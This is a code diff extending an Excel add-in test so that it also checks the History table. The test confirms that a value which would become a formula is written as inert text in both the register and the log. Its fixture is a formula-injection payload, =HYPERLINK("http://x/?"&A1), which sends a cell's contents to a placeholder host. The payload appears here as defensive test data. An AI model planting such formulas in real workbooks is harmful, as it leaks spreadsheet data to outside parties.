@@ -209,7 +209,7 @@ describe("sync in a workbook (process-format.md §3 through Excel)", () => {
       sim.uninstall();
     }
   });
-  it("text that would become a formula is written as text (reliability.md X1)", async () => {
+  it("text that would become a formula is written as text, in the register and in History (reliability.md X1, X2)", async () => {
     const def = template("procurement");
     const { sim, binding } = await registerIn({
       ...def,
@@ -232,6 +232,21 @@ describe("sync in a workbook (process-format.md §3 through Excel)", () => {
       expect(cells.formulas[0]?.[owner]).toBe('=HYPERLINK("http://x/?"&A1)');
       expect(cells.valueTypes[0]?.[owner]).toBe("String");
       expect(cells.valueTypes.flat()).not.toContain("Error");
+      // X2: the same guard on History, where the owner is logged with the "assigned" event.
+      const log = await Excel.run(async (context) => {
+        const range = context.workbook.tables
+          .getItem(binding.historyTableName)
+          .getDataBodyRange()
+          .load("values,formulas,valueTypes");
+        await context.sync();
+        return range;
+      });
+      const logged = log.values.findIndex((row) => row.includes('=HYPERLINK("http://x/?"&A1)'));
+      expect(logged).toBeGreaterThanOrEqual(0);
+      const column = log.values[logged]?.indexOf('=HYPERLINK("http://x/?"&A1)') ?? -1;
+      expect(log.formulas[logged]?.[column]).toBe('=HYPERLINK("http://x/?"&A1)');
+      expect(log.valueTypes[logged]?.[column]).toBe("String");
+      expect(log.valueTypes.flat()).not.toContain("Error");
     } finally {
       sim.uninstall();
     }
